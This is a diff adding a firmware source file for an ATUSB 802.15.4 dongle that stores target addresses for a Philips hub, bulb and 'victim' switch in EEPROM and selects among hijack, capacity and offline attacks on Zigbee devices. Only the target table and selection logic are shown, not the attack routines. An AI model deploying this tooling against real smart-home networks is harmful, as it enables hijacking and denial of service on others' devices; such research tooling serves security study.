@@ -0,0 +1,228 @@
+/*
+ * fw/attacks/target.c - Target table and attack selection
+ *
+ * This program is free software; you can redistribute it and/or modify
+ * it under the terms of the GNU General Public License as published by
+ * the Free Software Foundation; either version 2 of the License, or
+ * (at your option) any later version.
+ */
+
+/*
+ * The attacks work on hub_addr, bulb_addr, and victim_addr. The host can
+ * replace them and pick the attack at run time, and save both in EEPROM, so
+ * that a new engagement doesn't need a new firmware build.
+ */
+
+#include <stdbool.h>
+#include <stdint.h>
+#include <string.h>
+
+#include <avr/eeprom.h>
+
+#include "atusb/atusb.h"
+#include "at86rf230.h"
+#include "board.h"
+#include "attack.h"
+#include "target.h"
+
+
+/* EEPROM layout: magic, attack, then the targets */
+
+#define	EEPROM_TABLE	16	/* after the EUI-64 */
+#define	TABLE_MAGIC	0xa7
+
+
+ieee802154_addr hub_addr = {};
+ieee802154_addr bulb_addr = {};
+ieee802154_addr victim_addr = {};
+uint8_t attack_no = ATUSB_ATTACK_NONE;
+
+
+static ieee802154_addr *const targets[ATUSB_TARGETS] = {
+	[ATUSB_TARGET_HUB]	= &hub_addr,
+	[ATUSB_TARGET_BULB]	= &bulb_addr,
+	[ATUSB_TARGET_VICTIM]	= &victim_addr,
+};
+
+
+/* ----- Built-in defaults ------------------------------------------------- */
+
+
+static void defaults(void)
+{
+	// Here we let dst_device = hub, src_device = sensor to test our API
+
+	hub_addr.pan = 0x7051;
+	hub_addr.epan = PHILIPS_EPAN_ID;
+	hub_addr.short_addr = 0x0001;
+	hub_addr.long_addr = PHILIPS_BRIDGE_MAC_ADDR;
+	hub_addr.device_type = 0;
+	hub_addr.polling_type = 0;
+	hub_addr.coordinator_flag = 1;
+	hub_addr.beacon_update_id = 2;
+
+	bulb_addr = hub_addr;
+	bulb_addr.short_addr = 0x0005;
+	bulb_addr.long_addr = PHILIPS_BULB_MAC_ADDR;
+	bulb_addr.device_type = 1;
+	bulb_addr.polling_type = 0;
+
+	victim_addr = hub_addr;
+	victim_addr.short_addr = 0x35c7;
+	victim_addr.long_addr = PHILIPS_SWITCH_MAC_ADDR;
+	victim_addr.polling_type = 2;
+	victim_addr.device_type = 2;
+	victim_addr.rx_when_idle = 1;
+
+	attack_no = ATUSB_ATTACK_CAPACITY;
+}
+
+
+/* ----- Wire format ------------------------------------------------------- */
+
+
+/* multi-byte fields are little-endian on the wire, like on the AVR */
+
+static void pack(uint8_t *buf, const ieee802154_addr *a)
+{
+	memcpy(buf, &a->pan, 2);
+	memcpy(buf+2, &a->epan, 8);
+	memcpy(buf+10, &a->short_addr, 2);
+	memcpy(buf+12, &a->long_addr, 8);
+	buf[20] = a->polling_type;
+	buf[21] = a->device_type;
+	buf[22] = a->rx_when_idle;
+	buf[23] = a->beacon_update_id;
+	buf[24] = a->coordinator_flag;
+}
+
+
+static void unpack(ieee802154_addr *a, const uint8_t *buf)
+{
+	memcpy(&a->pan, buf, 2);
+	memcpy(&a->epan, buf+2, 8);
+	memcpy(&a->short_addr, buf+10, 2);
+	memcpy(&a->long_addr, buf+12, 8);
+	a->polling_type = buf[20];
+	a->device_type = buf[21];
+	a->rx_when_idle = buf[22];
+	a->beacon_update_id = buf[23];
+	a->coordinator_flag = buf[24];
+}
+
+
+bool target_write(uint8_t role, const uint8_t *buf, uint8_t len)
+{
+	if (role >= ATUSB_TARGETS || len != ATUSB_TARGET_SIZE)
+		return 0;
+	unpack(targets[role], buf);
+	return 1;
+}
+
+
+bool target_read(uint8_t role, uint8_t *buf)
+{
+	if (role >= ATUSB_TARGETS)
+		return 0;
+	pack(buf, targets[role]);
+	return 1;
+}
+
+
+/* ----- EEPROM ------------------------------------------------------------ */
+
+
+/*
+ * Each EEPROM byte takes about 3.4 ms to write, so a whole table is far too
+ * slow for the control request. ATUSB_TARGET_SAVE only records what to do,
+ * and target_poll does it from the main loop.
+ */
+
+static volatile bool save_pending = 0;
+static volatile bool save_erase;
+
+
+void target_save(bool erase)
+{
+	save_erase = erase;
+	save_pending = 1;
+}
+
+
+void target_poll(void)
+{
+	uint8_t buf[ATUSB_TARGET_SIZE];
+	uint8_t *p = (uint8_t *) EEPROM_TABLE;
+	uint8_t i;
+
+	/* if the host saves again while we write, write again */
+	while (save_pending) {
+		save_pending = 0;
+		if (save_erase) {
+			eeprom_update_byte(p, 0xff);
+			continue;
+		}
+
+		/* the magic goes last, so a torn save isn't taken for one */
+		eeprom_update_byte(p, 0xff);
+		eeprom_update_byte(p+1, attack_no);
+		for (i = 0; i != ATUSB_TARGETS; i++) {
+			pack(buf, targets[i]);
+			eeprom_update_block(buf, p+2+i*ATUSB_TARGET_SIZE,
+			    ATUSB_TARGET_SIZE);
+		}
+		eeprom_update_byte(p, TABLE_MAGIC);
+	}
+}
+
+
+void target_init(void)
+{
+	uint8_t buf[ATUSB_TARGET_SIZE];
+	const uint8_t *p = (const uint8_t *) EEPROM_TABLE;
+	uint8_t i;
+
+	if (eeprom_read_byte(p) != TABLE_MAGIC) {
+		defaults();
+		return;
+	}
+	/* an attack this firmware doesn't know stays off */
+	if (!attack_select(eeprom_read_byte(p+1)))
+		attack_no = ATUSB_ATTACK_NONE;
+	for (i = 0; i != ATUSB_TARGETS; i++) {
+		eeprom_read_block(buf, p+2+i*ATUSB_TARGET_SIZE,
+		    ATUSB_TARGET_SIZE);
+		unpack(targets[i], buf);
+	}
+}
+
+
+/* ----- Attack selection -------------------------------------------------- */
+
+
+/*
+ * The main loop picks up the change and stops or starts attack rounds. The
+ * hijacking path in the RF interrupt follows attack_no directly. It answers
+ * at TRX_END and classifies at RX_START, so we enable both interrupts, even
+ * if no host has set up the transceiver.
+ */
+
+bool attack_select(uint8_t no)
+{
+	uint8_t mask = IRQ_TRX_END;
+
+	switch (no) {
+	case ATUSB_ATTACK_HIJACK:
+		if (RX_START_TRIGGER)
+			mask |= IRQ_RX_START;
+		reg_write(REG_IRQ_MASK, reg_read(REG_IRQ_MASK) | mask);
+		/* fall through */
+	case ATUSB_ATTACK_NONE:
+	case ATUSB_ATTACK_CAPACITY:
+	case ATUSB_ATTACK_OFFLINE:
+		attack_no = no;
+		return 1;
+	default:
+		return 0;
+	}
+}